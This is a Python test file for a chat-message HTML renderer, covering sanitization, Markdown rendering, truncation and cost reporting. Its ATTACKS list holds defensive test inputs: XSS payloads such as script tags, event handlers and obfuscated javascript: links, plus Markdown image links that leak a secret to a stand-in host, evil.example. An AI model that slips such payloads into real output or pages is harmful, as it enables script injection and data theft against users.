"""Messages as HTML: everything is there, and nothing of it runs."""

import sys
from decimal import Decimal
from html.parser import HTMLParser
from typing import Any

import pytest
from hypothesis import given, strategies as st

from hocket import AIMessage, HumanMessage, ToolMessage
from hocket.batch import BatchReport
from hocket.callbacks import UsageMetadataCallbackHandler, get_usage_metadata_callback
from hocket.language_models import ScriptedChatModel, Turn
from hocket.messages import AIMessageChunk, SystemMessage
from hocket.messages.html import LONGEST, MOST, load_markdown, write_message, write_messages, write_table
from hocket.prices import Price, set_prices

HARMLESS = {
    *("div", "details", "summary", "table", "thead", "tbody", "tr", "th", "td", "code", "pre", "p", "br", "hr", "em"),
    *("strong", "ul", "ol", "li", "blockquote", "a", "h1", "h2", "h3", "h4", "h5", "h6"),
}
ATTRIBUTES = {"class", "style", "href", "title", "start", "open"}

ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "![leak](https://evil.example/?secret)",
    "![leak][1]\n\n[1]: https://evil.example/",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt&#58;alert(1))",
    "<javascript:alert(1)>",
    "[click](data:text/html,<script>alert(1)</script>)",
    '[click](https://x.example "title\\" onclick=alert(1) \\"")',
    '```"><script>alert(1)</script>\ncode\n```',
    "<!-- --><style>*{display:none}</style>",
    "| a |\n|---|\n| <svg onload=alert(1)> |",
    "\ud800 half a letter",
]


class Checked(HTMLParser):
    """Refuses elements and attributes that could do something."""

    def __init__(self) -> None:
        super().__init__()
        self.texts: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in HARMLESS, tag
        for name, value in attrs:
            assert name in ATTRIBUTES, name
            if name == "href":
                assert (value or "").split(":")[0].lower() not in ("javascript", "data", "vbscript", "file"), value

    def handle_data(self, data: str) -> None:
        self.texts.append(data)


def read(html: str) -> str:
    """Return the text of HTML that is harmless, and can be sent."""
    html.encode()
    parser = Checked()
    parser.feed(html)
    parser.close()
    return "".join(parser.texts)


@pytest.fixture(params=["rendered", "as it was written"])
def markdown(request: pytest.FixtureRequest, monkeypatch: pytest.MonkeyPatch) -> Any:
    """With and without what renders Markdown."""
    if request.param != "rendered":
        monkeypatch.setitem(sys.modules, "markdown_it", None)
    load_markdown.cache_clear()
    yield request.param
    load_markdown.cache_clear()


@pytest.mark.parametrize("text", ATTACKS, ids=range(len(ATTACKS)))
def test_nothing_runs(text: str, markdown: str):
    """Whoever says it, and wherever."""
    call: Any = {"name": text, "args": {text: text}, "id": text}
    facts: Any = {"model_name": text}
    for message in (
        AIMessage(text, tool_calls=[call], response_metadata=facts),
        AIMessage([{"type": "reasoning", "reasoning": text}, {"type": "text", "text": text}, {"type": text}]),
        AIMessage(
            "", invalid_tool_calls=[{"type": "invalid_tool_call", "name": text, "args": text, "id": "", "error": text}]
        ),
        HumanMessage(text, name=text),
        ToolMessage(text, tool_call_id="1", name=text),
        SystemMessage(text),
    ):
        read(write_message(message))
    counted = UsageMetadataCallbackHandler()
    counted.usage_metadata[text] = {"input_tokens": 1, "output_tokens": 1, "total_tokens": 2}
    read(counted._repr_html_())
    read(BatchReport(stopped=ValueError(text))._repr_html_())


@given(st.text())
def test_nothing_of_any_text_runs(text: str):
    """Markdown included."""
    read(write_message(AIMessage(text)))


def test_what_is_shown_of_a_message(markdown: str):
    """Who speaks, the words, reasoning to unfold, calls, and what it cost."""
    message = AIMessage(
        [{"type": "reasoning", "reasoning": "Hm."}, {"type": "text", "text": "It is **so**."}, {"type": "image"}],
        tool_calls=[{"name": "look", "args": {"at": "it"}, "id": "1"}],
        usage_metadata={"input_tokens": 3, "output_tokens": 4, "total_tokens": 7},
        response_metadata={"model_name": "small"},
    )
    html = message._repr_html_()
    assert ("<strong>so</strong>" in html) is (markdown == "rendered")
    words = read(html)
    for word in ("ai · small · 3 + 4 tokens", "Hm.", "so", "[image]", "look({'at': 'it'})"):
        assert word in words
    assert "Hello" in read(AIMessageChunk("Hello")._repr_html_()) and "aimessagechunk" not in html


def test_what_is_wide_stays_on_the_page(markdown: str):
    """A long word is broken, and a table has a scroll bar of its own."""
    assert "overflow-wrap:break-word" in write_message(AIMessage("x" * 500))
    tables = [write_table(["a"], [[1]])]
    if markdown == "rendered":
        tables.append(write_message(AIMessage("| a |\n|---|\n| 1 |")))
    for table in tables:
        assert '<div style="overflow-x:auto"><table>' in table and "</table></div>" in table


def test_reasoning_is_seen_until_the_answer_begins():
    """Then it is folded."""
    reasoning = {"type": "reasoning", "reasoning": "Hm."}
    assert "<details open>" in write_message(AIMessageChunk([reasoning]))
    assert "<details>" in write_message(AIMessageChunk([reasoning, {"type": "text", "text": "So"}]))


def test_only_answers_are_rendered():
    """A user's asterisks are his own."""
    assert "**so**" in write_message(HumanMessage("**so**"))


def test_what_is_long_is_cut():
    """And says so."""
    assert f"({5} more characters)" in read(write_message(HumanMessage("x" * (LONGEST + 5))))
    html = write_messages([HumanMessage(f"number {index};") for index in range(MOST + 3)])
    assert "… 3 messages before" in html and "number 2;" not in html and "number 3;" in html


def test_a_report_shows_itself():
    """Where some tries have no price, the cost is the least; if none has one, it is unknown, and not nothing."""
    report = BatchReport(ok=7, failed=2)
    report.add_usage({"input_tokens": 1000, "output_tokens": 200, "total_tokens": 1200}, None, 1)
    words = read(report._repr_html_())
    assert "1,200" in words and "unknown" in words
    report.add_usage(None, Decimal("0.5"), 1)
    assert "at least $0.5000" in read(report._repr_html_())


def test_counted_usage_shows_its_cost():
    """Where the price of every model is known, also one that is said for its provider only; else nothing."""
    usage: Any = {"input_tokens": 9, "output_tokens": 1, "total_tokens": 10}
    facts = {"model_name": "m", "model_provider": "acme"}
    model = ScriptedChatModel(script=[Turn(text="yes", usage=usage, metadata=facts)])
    name = "acme:m"
    with get_usage_metadata_callback() as counted:
        model.invoke("?")
    assert "cost" not in read(counted._repr_html_())
    try:
        set_prices({name: Price("1.5", 10)})
        assert "$0.000024" in read(counted._repr_html_())
        counted.usage_metadata["unheard-of"] = {"input_tokens": 1, "output_tokens": 1, "total_tokens": 2}
        assert "cost" not in read(counted._repr_html_())
        del counted.usage_metadata["unheard-of"]
        set_prices({name: Price("1.5", 10, above={5: Price(3, 20)})})  # for long prompts, which a sum does not tell
        assert "cost" not in read(counted._repr_html_())
    finally:
        set_prices({name: None})
